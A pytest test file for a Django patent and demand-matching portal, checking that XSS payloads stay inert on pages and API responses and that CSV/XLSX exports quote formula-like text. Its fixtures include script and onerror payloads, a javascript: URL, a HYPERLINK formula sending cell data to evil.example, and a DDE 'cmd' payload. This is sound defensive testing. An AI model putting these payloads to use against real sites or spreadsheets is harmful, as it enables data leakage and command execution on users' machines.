"""User text is inert everywhere: script/HTML payloads posted through forms, the API and imports
render escaped on list and detail pages and come back verbatim (as JSON strings) from the API;
spreadsheet exports quote formula-like text (portal.exports)."""

import csv
import datetime as dt
import io

import openpyxl
import pytest
from django.utils import timezone

from demands.models import Demand
from matching.models import Inquiry
from patents.exports import EXPORT_HEADERS_ZH
from patents.models import Patent, SupplyBulletin
from portal.exports import FORMULA_PREFIXES, csv_bytes, safe_cell, xlsx_bytes
from portal.imports.base import run_import
from portal.models import ImportJob, Organization
from portal.permissions import actor_for
from tests.demands.factories import DemandFactory
from tests.matching.factories import make_patent
from tests.patents.factories import app_no
from tests.portal.factories import OrganizationFactory, credit_code, make_user

pytestmark = pytest.mark.django_db

SCRIPT = "<script>alert(1)</script>"
IMG = '"><img src=x onerror=alert(1)>'
PAYLOAD = f"X{SCRIPT}{IMG}"
ESCAPED_SCRIPT = "&lt;script&gt;alert(1)&lt;/script&gt;"
JS_URL = "javascript:alert(1)"


def assert_inert(response, *, expect_escaped: bool = True) -> str:
    assert response.status_code == 200
    html = response.content.decode()
    assert SCRIPT not in html and "<img src=x onerror" not in html, "a payload was rendered as markup"
    assert 'href="javascript:' not in html.lower()
    if expect_escaped:
        assert ESCAPED_SCRIPT in html, "the payload should be shown, escaped"
    return html


def assert_api_verbatim(response, field: str) -> None:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/json")
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response.json()[field] == PAYLOAD  # stored and returned as typed, never as markup


# --- Forms, API, imports -------------------------------------------------------------------------


def test_patent_title_posted_through_the_api(client):
    owner = make_user("institution")
    client.force_login(owner)
    number = app_no(4242)
    response = client.post(
        "/api/patents/",
        {"application_no": number, "title": PAYLOAD, "abstract": PAYLOAD, "deal_kinds": ["transfer"]},
        content_type="application/json",
    )
    assert response.status_code == 201, response.content
    Patent.objects.filter(application_no=number).update(
        listing_status=Patent.ListingStatus.PUBLISHED,
        published_at=timezone.now(),
        listed_until=timezone.localdate() + dt.timedelta(days=365),
    )
    client.logout()
    assert_inert(client.get("/patents/"))
    assert_inert(client.get(f"/patents/{number}/"))
    assert_inert(client.get("/patents/", {"q": PAYLOAD}), expect_escaped=False)  # the search box echoes it
    assert_api_verbatim(client.get(f"/api/patents/{number}/"), "title")


def test_demand_posted_through_the_form():
    sme = make_user("sme")
    from django.test import Client

    client = Client()
    client.force_login(sme)
    response = client.post(
        "/demands/new/",
        {
            "title": PAYLOAD,
            "description": PAYLOAD,
            "deal_kinds": ["transfer"],
            "deadline": (timezone.localdate() + dt.timedelta(days=60)).isoformat(),
            "visibility": "public",
            "publish": "1",
        },
    )
    demand = Demand.objects.get()
    assert response.status_code == 302, response.context and response.context["form"].errors
    assert demand.title == PAYLOAD and demand.status == Demand.Status.OPEN
    assert_inert(client.get(f"/demands/{demand.code}/"))
    client.force_login(make_user("institution"))  # sees the description too
    html = assert_inert(client.get(f"/demands/{demand.code}/"))
    assert html.count(ESCAPED_SCRIPT) >= 2
    client.logout()
    assert_inert(client.get("/demands/"))
    assert_api_verbatim(client.get(f"/api/demands/{demand.code}/"), "title")


def test_organization_name_from_signup_and_website_javascript_url(client):
    response = client.post(
        "/accounts/signup/",
        {
            "username": "newcomer",
            "email": "newcomer@example.com",
            "password1": "Liang-Shan-2023-qiao",
            "password2": "Liang-Shan-2023-qiao",
            "organization_name": PAYLOAD,
            "credit_code": credit_code(777),
            "kind": "sme",
            "region": "150622",
            "contact_name": "王经理",
            "contact_phone": "0477-1234567",
        },
    )
    assert response.status_code == 302, response.context["form"].errors
    organization = Organization.objects.get(credit_code=credit_code(777))
    assert organization.name == PAYLOAD
    assert_inert(client.get("/"))  # the pending banner names the organization
    # A javascript: website is refused by the profile form.
    response = client.post("/accounts/profile/", {"org-website": JS_URL})
    assert response.context["organization_form"].errors.get("website")
    assert Organization.objects.get(pk=organization.pk).website == ""
    # Even a stored one (admin, old data) is never rendered as a link.
    Organization.objects.filter(pk=organization.pk).update(website=JS_URL)
    client.force_login(make_user("bureau"))
    assert_inert(client.get("/organizations/review/", {"status": ""}))
    assert_inert(client.get(f"/organizations/{organization.pk}/"))


def test_inquiry_message_posted_through_the_form(client):
    owner = make_user("institution")
    patent = make_patent(owner=actor_for(owner).organization)
    asker = make_user("sme")
    client.force_login(asker)
    response = client.post(
        f"/matching/inquiries/new/{patent.application_no}/", {"subject": PAYLOAD, "body": PAYLOAD}
    )
    inquiry = Inquiry.objects.get()
    assert response.status_code == 302
    client.post(f"/matching/inquiries/{inquiry.pk}/reply/", {"body": PAYLOAD})
    for user in (asker, owner):
        client.force_login(user)
        html = assert_inert(client.get(f"/matching/inquiries/{inquiry.pk}/"))
        assert html.count(ESCAPED_SCRIPT) >= 2
        assert_inert(client.get("/matching/inquiries/"))
        assert_inert(client.get("/matching/notifications/"), expect_escaped=False)


def test_patent_title_from_an_import(client, tmp_path):
    owner = make_user("institution")
    organization = actor_for(owner).organization
    number = app_no(4343)
    path = tmp_path / "patents.csv"
    with open(path, "w", newline="", encoding="utf-8") as fh:
        csv.writer(fh).writerows(
            [
                ["application_no", "title", "abstract", "deal_kinds", "listing_status"],
                [number, PAYLOAD, PAYLOAD, "transfer", "published"],
            ]
        )
    result = run_import(
        kind="patents", path=path, options={"owner": organization.credit_code}, actor=actor_for(owner)
    )
    assert result.ok, result.error_lines()
    patent = Patent.objects.get(application_no=number)
    assert patent.title == PAYLOAD
    client.force_login(owner)
    assert_inert(client.get("/patents/mine/"))
    assert_inert(client.get(f"/patents/{number}/"))


def test_an_import_error_report_renders_escaped(client):
    user = make_user("institution")
    job = ImportJob.objects.create(
        kind="patents",
        original_name=PAYLOAD[:100] + ".csv",
        file="imports/x.csv",
        organization=actor_for(user).organization,
        created_by=user,
        status=ImportJob.Status.INVALID,
        result={"errors": [{"row": 2, "column": PAYLOAD, "message": PAYLOAD}]},
    )
    client.force_login(user)
    assert_inert(client.get(f"/imports/{job.pk}/"))
    assert_inert(client.get("/imports/"))


# --- Spreadsheet exports -----------------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_safe_cell_quotes_formula_text(text):
    assert safe_cell(text) == "'" + text
    assert text[:1] in FORMULA_PREFIXES


def test_safe_cell_leaves_other_values():
    for value in ("一种液压支架", "202110123456.X", "", None, 0, -5, 1.5, dt.date(2023, 1, 1)):
        assert safe_cell(value) == value


def test_the_shared_writers():
    rows = [[text, 1] for text in FORMULAS]
    lines = list(csv.reader(io.StringIO(csv_bytes(rows, header=["=title", "n"]).decode("utf-8-sig"))))
    assert lines[0] == ["'=title", "n"]
    assert [line[0] for line in lines[1:]] == ["'" + text for text in FORMULAS]
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(rows))).active
    assert all(cell.data_type == "s" and cell.value.startswith("'") for cell in sheet["A"])
    assert sheet["B1"].value == 1


def _patents_with_formula_titles(owner) -> list[Patent]:
    return [
        make_patent(owner=owner, title=text, application_no=app_no(5000 + i))
        for i, text in enumerate(FORMULAS)
    ]


def test_patent_inventory_exports(client):
    user = make_user("institution")
    patents = _patents_with_formula_titles(actor_for(user).organization)
    client.force_login(user)
    response = client.get("/patents/mine/export/", {"format": "csv"})
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    title = EXPORT_HEADERS_ZH["title"]  # a Chinese reader's export has Chinese headers
    assert sorted(row[title] for row in rows) == sorted("'" + p.title for p in patents)
    response = client.get("/patents/mine/export/", {"format": "xlsx"})
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    titles = [cell for cell in sheet["B"][1:]]
    assert titles and all(cell.data_type == "s" and cell.value.startswith("'") for cell in titles)


def test_bulletin_xlsx(client):
    owner = OrganizationFactory(kind=Organization.Kind.UNIVERSITY, public_contact="=1+1")
    patents = _patents_with_formula_titles(owner)
    bulletin = SupplyBulletin.objects.create(month=dt.date(2023, 5, 1), title="=2023年5月")
    bulletin.patents.set(patents)
    response = client.get("/patents/bulletins/2023/5/xlsx/")
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    formulas = [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    assert formulas == []
    assert sheet["A1"].value == "'=2023年5月"
    # (XML keeps no carriage return: "\r" comes back as "\n".)
    assert {cell.value for cell in sheet["C"][2:]} == {"'" + text.replace("\r", "\n") for text in FORMULAS}


def test_import_error_report_csv(client):
    user = make_user("institution")
    job = ImportJob.objects.create(
        kind="patents",
        original_name="x.csv",
        file="imports/x.csv",
        organization=actor_for(user).organization,
        created_by=user,
        status=ImportJob.Status.INVALID,
        result={"errors": [{"row": 2, "column": text, "message": text} for text in FORMULAS]},
    )
    client.force_login(user)
    response = client.get(f"/imports/{job.pk}/errors.csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert [row[2] for row in rows[1:]] == ["'" + text for text in FORMULAS]
    assert all(row[1].startswith("'") for row in rows[1:])


def test_formula_text_is_plain_text_on_pages(client):
    """Pages show formula-like titles as they are: only spreadsheets need the apostrophe."""
    DemandFactory(title="=1+1 冷链")
    assert "=1+1 冷链" in client.get("/demands/").content.decode()
